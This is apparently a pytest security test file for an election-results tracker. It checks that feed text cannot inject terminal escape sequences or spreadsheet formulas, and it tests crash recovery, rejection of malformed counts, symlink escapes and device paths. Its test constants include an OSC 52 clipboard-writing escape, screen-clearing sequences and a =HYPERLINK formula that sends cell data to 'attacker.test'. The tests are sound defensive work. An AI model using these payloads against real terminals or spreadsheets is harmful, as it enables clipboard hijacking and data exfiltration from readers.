"""Output that cannot attack its reader (issue 19, finding 8): feed text reaches neither the
terminal raw (escape sequences: a new window title, the clipboard via OSC 52, a cleared screen)
nor a spreadsheet as a formula. The feed documents are constructed by the test."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest

from tracker.cli import main
from tracker.core.csv_safe import safe_cell
from tracker.core.export import contest_rows, write_contest_csv
from tracker.core.model import Candidate, Contest, Election, Reporting, ReportingUnit, Snapshot
from tracker.feeds.native import dump_native

OSC52 = "\x1b]52;c;ZWNobyBwd25lZA==\x07"  # write "echo pwned" to the clipboard
TITLE = "\x1b]0;constructed title\x07"
CLEAR = "\x1b[2J\x9b2J"  # CSI in 7-bit and 8-bit (C1) form
FORMULA = '=HYPERLINK("http://attacker.test/?"&A1,"click")'


def hostile_snapshot() -> Snapshot:
    return Snapshot(
        election=Election(id="constructed", name=f"Constructed election {TITLE}"),
        contests=(
            Contest(
                id="c1",
                name=f"Constructed race {CLEAR}",
                candidates=(Candidate("a", f"{FORMULA}{OSC52}"), Candidate("b", "+1-555 @x")),
                units=(
                    ReportingUnit(
                        id="u1",
                        name="-Constructed unit",
                        county="@county",
                        reporting=Reporting.COMPLETE,
                        votes={"a": {"Total": 5}, "b": {"Total": 3}},
                    ),
                ),
            ),
        ),
        version="v1",
    )


def test_the_terminal_sees_no_control_characters_from_a_feed(tmp_path: Path, capsys) -> None:
    path = tmp_path / "constructed_hostile.json"
    path.write_bytes(dump_native(hostile_snapshot()))
    assert main(["parse", str(path)]) == 0
    assert main(["parse", str(path), "--json"]) == 0
    out = capsys.readouterr().out
    for control in ("\x1b", "\x07", "\x9b"):
        assert control not in out
    assert "\\u001b]52;c;" in out and "Constructed race" in out  # shown, visibly escaped
    document = out[out.index("{") :]
    assert json.loads(document)["election"]["name"].startswith("Constructed election")  # JSON stays valid


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        (FORMULA, "'" + FORMULA),
        ("+1-555", "'+1-555"),
        ("-Constructed", "'-Constructed"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-2.5", "-2.5"),
        (-3, -3),
        ("Plain name", "Plain name"),
    ],
)
def test_csv_cells_that_a_spreadsheet_would_run_are_prefixed(cell: object, safe: object) -> None:
    assert safe_cell(cell) == safe


def test_a_race_exported_as_csv_holds_no_formula() -> None:
    snap = hostile_snapshot()
    out = io.StringIO()
    write_contest_csv(contest_rows(snap.contests[0]), out, header=["from the feed\n=evil()"])
    rows = [r for r in csv.reader(io.StringIO(out.getvalue())) if r and not r[0].startswith("#")]
    cells = [c for row in rows for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not c.lstrip("-").isdigit()]
    assert any(c.startswith("'=HYPERLINK") for c in cells)
    assert all(line.startswith("# ") for line in out.getvalue().splitlines()[:1])
    assert "\n=evil()" not in out.getvalue()


def test_a_candidate_is_found_without_scanning_every_candidate() -> None:
    """10,000 candidates froze the window (a linear lookup per candidate); ids are read once to
    build an index, then each lookup is a dictionary's. Counted, not timed."""
    reads = [0]

    class Counted(Candidate):
        def __getattribute__(self, name: str) -> object:
            if name == "id":
                reads[0] += 1
            return object.__getattribute__(self, name)

    n = 2000
    contest = Contest(
        id="c",
        name="Constructed race",
        candidates=tuple(Counted(f"k{i}", f"Constructed {i}") for i in range(n)),
    )
    for i in range(n):
        assert contest.candidate(f"k{i}").name == f"Constructed {i}"
    assert reads[0] <= 2 * n  # was n * (n + 1) / 2
    with pytest.raises(KeyError):
        contest.candidate("absent")


# -- recovery: record --resume ----------------------------------------------------------------------


def test_a_crashed_recording_is_resumed_and_force_is_never_suggested(tmp_path: Path, capsys) -> None:
    """A recording killed mid-night (its -wal beside it) is continued by ``record --resume``:
    every version it had stays, new ones are added. Recording again into it without --resume
    names --resume, never --force (which deletes the night)."""
    import subprocess
    import sys

    from hostile_server import HostileServer, constructed_payload

    from tracker.archive.night import NightFile

    night = tmp_path / "crashed.night"
    with HostileServer() as server:
        script = (
            "import os, sys, threading\n"
            "from tracker.cli import main\n"
            "import tracker.archive.recorder as r\n"
            "real = r.Recorder.record\n"
            "def record(self, events):\n"
            "    out = real(self, events)\n"
            "    if self.versions >= 1: os._exit(9)  # killed after the first version, no close\n"
            "    return out\n"
            "r.Recorder.record = record\n"
            f"main(['record', {server.url!r}, '--interval', '0.05', '-o', {str(night)!r}])\n"
        )
        crash = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=120)
        assert crash.returncode == 9, crash.stderr
        assert night.with_name(night.name + "-wal").exists()  # a crashed recording, still in WAL

        assert main(["record", server.url, "-o", str(night)]) == 2
        err = capsys.readouterr().err
        assert "--resume" in err and "--force" not in err

        server.body = constructed_payload("v2", votes=70)
        assert main(["record", "--resume", str(night), "--interval", "0.05", "--max-polls", "2"]) == 0
        out = capsys.readouterr().out
        assert "resuming the recording of " + server.url in out and "(1 version so far)" in out
    with NightFile.open(night) as done:
        assert [v.version for v in done.versions()] == ["v1", "v2"]
        assert done.meta["feed_url"] == server.url


# -- implausible counts and lone surrogates -----------------------------------------------------------


@pytest.mark.parametrize(
    ("edit", "words"),
    [
        (lambda d: json.loads(json.dumps(d).replace('"Total": 60', f'"Total": {10**30}')), "more than 10^10"),
        (lambda d: json.loads(json.dumps(d).replace('"Total": 60', f'"Total": {2**63}')), "more than 10^10"),
        (
            lambda d: json.loads(json.dumps(d).replace("Constructed A", "Constructed \\ud800 A")),
            "lone surrogate",
        ),
        (lambda d: json.loads(json.dumps(d).replace("Constructed race", "\\udfff")), "lone surrogate"),
    ],
)
def test_implausible_counts_and_lone_surrogates_are_refused_in_one_line(
    tmp_path: Path, capsys, edit, words: str
) -> None:
    from hostile_server import constructed_payload

    from tracker.core.errors import FeedError
    from tracker.feeds.registry import parse_payload

    doc = edit(json.loads(constructed_payload()))
    data = json.dumps(doc).encode()
    with pytest.raises(FeedError, match=re.escape(words)):
        parse_payload(data, source="constructed.json")
    path = tmp_path / "constructed_implausible.json"
    path.write_bytes(data)
    assert main(["parse", str(path)]) == 2
    err = capsys.readouterr().err
    assert words in err and err.count("\n") == 1 and "Traceback" not in err


# -- files that are not what they seem --------------------------------------------------------------


def test_import_of_a_folder_stays_inside_it(tmp_path: Path, capsys) -> None:
    from hostile_server import constructed_payload

    outside = tmp_path / "elsewhere"
    outside.mkdir()
    (outside / "secret.json").write_bytes(constructed_payload("secret"))
    folder = tmp_path / "downloads"
    folder.mkdir()
    (folder / "a.json").write_bytes(constructed_payload("v1"))
    (folder / "b.json").symlink_to(outside / "secret.json")
    out = tmp_path / "constructed_import.night"
    assert main(["import", str(folder), "-o", str(out)]) == 2
    err = capsys.readouterr().err
    assert "b.json in " in err and "outside the folder" in err
    assert not out.exists()


def test_devices_and_pipes_are_never_called_a_folder_nor_read(tmp_path: Path) -> None:
    """/dev/zero was "a folder" (and read for ever by `parse`); so was a FIFO."""
    import os
    import subprocess
    import sys

    fifo = tmp_path / "constructed.fifo"
    os.mkfifo(fifo)
    for target in ("/dev/zero", str(fifo)):
        for args in (
            ["replay", target],
            ["parse", target],
            ["import", target, "-o", str(tmp_path / "x.night")],
        ):
            run = subprocess.run(
                [sys.executable, "-m", "tracker", *args], capture_output=True, text=True, timeout=60
            )
            assert run.returncode == 2, (args, run.stderr)
            assert "a device, a pipe or a socket" in run.stderr and "folder," not in run.stderr, (
                args,
                run.stderr,
            )
